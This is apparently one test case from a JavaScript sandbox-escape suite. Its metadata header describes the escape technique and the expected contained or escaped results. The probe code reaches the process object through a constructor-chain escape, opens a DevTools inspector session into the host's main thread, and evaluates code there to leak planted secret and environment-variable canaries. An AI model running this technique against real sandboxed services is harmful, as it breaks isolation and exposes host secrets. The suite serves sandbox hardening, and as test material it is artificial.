/*---
id: scope-inspector-main-thread
title: An inspector session from a worker into the main thread
category: scope
goal: From a worker thread, evaluate code in the main thread of the process (the host) and leak its global and env canaries.
technique: inspector.Session#connectToMainThread() (worker threads only) opens a DevTools protocol session to the main thread without --inspect; Runtime.evaluate runs there. Off a worker, Session#connect() reaches only the guest's own thread.
references: https://nodejs.org/api/inspector.html#sessionconnecttomainthread, https://chromedevtools.github.io/devtools-protocol/v8/Runtime/#method-evaluate
limits: timeout=5000
expect: * = escaped; *+isolated-vm = contained; *+quickjs = contained
expect-hardened: * = contained; host = escaped; host+vm = escaped; worker = escaped; worker+vm = escaped
---*/
const P =
  typeof process !== 'undefined'
    ? process
    : (() => {
        try {
          return this.constructor.constructor('return process')();
        } catch {
          return undefined;
        }
      })();
function probe() {
  const inspector = P.getBuiltinModule('node:inspector');
  const { isMainThread } = P.getBuiltinModule('node:worker_threads');
  const { setTimeout, clearTimeout } = P.getBuiltinModule('node:timers'); // a vm context has no timers
  const session = new inspector.Session();
  const target = isMainThread ? 'own thread (connect)' : 'main thread (connectToMainThread)';
  try {
    if (isMainThread) session.connect();
    else session.connectToMainThread();
  } catch (e) {
    return Promise.resolve(`${target}: ${e.code || e.name}: ${e.message}`.slice(0, 200));
  }
  const expression =
    "JSON.stringify({ hostSecret: globalThis.__hostSecret, env: typeof process === 'object' ? process.env.WORKBENCH_CANARY : undefined, pid: typeof process === 'object' ? process.pid : undefined })";
  return new Promise((resolve) => {
    const timer = setTimeout(() => resolve(`${target}: no answer within 3 s`), 3000);
    session.post('Runtime.evaluate', { expression, returnByValue: true }, (err, res) => {
      clearTimeout(timer);
      session.disconnect();
      const out = err
        ? `${err.code || err.name}: ${err.message}`
        : (res.result && res.result.value) || JSON.stringify(res);
      console.log(`${target} evaluated:`, out);
      resolve(`${target}: ${out}`);
    });
  });
}
P ? probe() : 'no process object';
